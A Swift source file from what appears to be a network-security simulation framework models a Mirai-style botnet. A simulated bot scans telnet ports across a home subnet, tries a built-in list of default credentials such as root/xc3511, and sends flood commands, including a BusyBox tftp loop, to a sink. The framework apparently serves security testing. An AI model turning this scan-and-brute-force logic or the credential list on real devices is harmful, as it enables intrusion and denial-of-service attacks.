public import Catalogue
import Exchange
import Fabric
import Wire

extension AttackName { public static let botnet = AttackName("botnet") }

/// What a compromised device in a home does to its neighbours, as the botnets of 2016 and later have been described:
/// scan two ports, try default passwords, report, load, flood on command. Behaviour only.
final class Botnet: Attack {
    static let description = AttackDescription(
        name: .botnet,
        summary: "logs in to what answers on ports 23 and 2323 with default passwords, and floods on command",
        mechanism:
            "From a node in the targets' home it scans the network, tries about sixty default passwords wherever a console answers, reports what it got into, loads a script there and has it send datagrams to a victim.",
        needs: "one compromised device in the targets' network",
        oracle: "a target sends what the bot told it to",
        techniques: ["T0812 Default Credentials"], threats: ["TID-311"],
        controls: [.networkFirewall], rules: [.networkScan])

    private struct Visit {
        var endpoint: Endpoint
        var attempt = 0
        var heard = ""
        var isIn = false
        /// What was loaded first is nothing that the shell knows.
        var hasOtherScript = false
    }

    /// One compromised device in a home: it scans that home.
    private struct Bot {
        var queue: [Endpoint]
        var visits: [StreamID: Visit] = [:]
        var nextStream: UInt32 = 1
    }

    private static let ports: [UInt16] = [23, 2323]
    private static let hosts: ClosedRange<UInt32> = 1...254
    private static let pause = Duration.milliseconds(500)
    private static let perWake = 12
    private static let users = ["root", "admin", "support", "user", "guest", "service"]
    private static let passwords = ["xc3511", "admin", "root", "default", "12345", "password", "1234", "guest", "support", "666666"]
    /// About sixty pairs, the users' favourites first.
    private static let logins = users.flatMap { user in passwords.map { (user: user, password: $0) } }
    private static let floodPort: UInt16 = 4000

    private let id: String
    private let sink: String
    private let targets: [String]
    private var names: [Address: String] = [:]
    private var sinkAddress = Address(bits: 0)
    private var bots: [String: Bot] = [:]
    private var flooding: Set<Address> = []
    private(set) var nextWake: Instant?

    init(_ step: Step) {
        id = step.id
        sink = "flooded-\(step.id)"
        targets = step.nodes
    }

    func apply(_ arena: inout Arena) {
        guard let victim = targets.first, let victimOfFlood = arena.attach(sink, near: victim) else { return }
        sinkAddress = victimOfFlood.address
        for target in targets {
            guard let spec = arena.fabric.spec(of: target) else { continue }
            names[spec.address] = target
            let bot = "bot-\(id)-\(spec.network)"
            guard bots[bot] == nil, let own = arena.attach(bot, near: target) else { continue }
            let network = own.address.bits & 0xFFFF_0000
            bots[bot] = Bot(queue: Botnet.hosts.flatMap { host in Botnet.ports.map { Endpoint(Address(bits: network | host), $0) } })
        }
        nextWake = arena.fabric.now + Botnet.pause
    }

    func recover(_ arena: inout Arena) {
        nextWake = nil
        for bot in bots.keys.sorted() { arena.detach(bot) }
        arena.detach(sink)
    }

    func handle(_ event: Event, at node: String, _ out: inout Outbox) {
        if node == sink {
            guard case .datagram(Botnet.floodPort, let from, _) = event, let name = names[from.address],
                flooding.insert(from.address).inserted
            else { return }
            out.succeeded(on: name, "\(name) sends what the bot told it to")
            return
        }
        guard var bot = bots[node] else { return }
        switch event {
        case .wake: scan(&bot, &out)
        case .received(let stream, let bytes): heard(stream, String(decoding: bytes, as: UTF8.self), &bot, &out)
        case .closed(let stream, _):
            if let visit = bot.visits.removeValue(forKey: stream), !visit.isIn, visit.attempt > 0, let name = names[visit.endpoint.address]
            {
                out.failed("login", on: name, Failure(.notAuthenticated, "\(visit.attempt) passwords were wrong"), nil)
            }
        default: break
        }
        bots[node] = bot
        nextWake = bots.values.allSatisfy(\.queue.isEmpty) ? nil : out.now + Botnet.pause
    }

    private func scan(_ bot: inout Bot, _ out: inout Outbox) {
        for endpoint in bot.queue.prefix(Botnet.perWake) {
            let stream = StreamID(raw: bot.nextStream)
            bot.nextStream += 1
            bot.visits[stream] = Visit(endpoint: endpoint)
            out.act(.connect(stream, to: endpoint))
        }
        bot.queue.removeFirst(min(Botnet.perWake, bot.queue.count))
    }

    private func heard(_ stream: StreamID, _ text: String, _ bot: inout Bot, _ out: inout Outbox) {
        guard var visit = bot.visits[stream] else { return }
        visit.heard = String((visit.heard + text).suffix(64))
        let line: String?
        if visit.heard.hasSuffix("login: ") {
            line = visit.attempt < Botnet.logins.count ? Botnet.logins[visit.attempt].user : nil
        } else if visit.heard.hasSuffix("Password: ") {
            line = Botnet.logins[visit.attempt].password
            visit.attempt += 1
        } else if visit.heard.hasSuffix("# ") && !visit.isIn {
            visit.isIn = true
            let login = Botnet.logins[visit.attempt - 1]
            let address = visit.endpoint.address
            out.observe(
                .attackStep,
                [
                    .step: "login", .target: .text(names[address] ?? "\(address)"), .result: "accepted",
                    .text: .text("\(login.user):\(login.password) on port \(visit.endpoint.port)"),
                ])
            line = "repeat 20 send \(sinkAddress) \(Botnet.floodPort)"
        } else if visit.isIn, !visit.hasOtherScript, visit.heard.contains("not found"), visit.heard.hasSuffix("# ") {
            visit.hasOtherScript = true
            // What every BusyBox has that sends datagrams.
            line = "for i in 1 2 3 4 5; do busybox tftp -g -r x -l /dev/null \(sinkAddress) \(Botnet.floodPort); done"
        } else {
            bot.visits[stream] = visit
            return
        }
        visit.heard = ""
        bot.visits[stream] = visit
        if let line { out.act(.send(stream, Array("\(line)\n".utf8))) } else { out.act(.close(stream)) }
    }
}
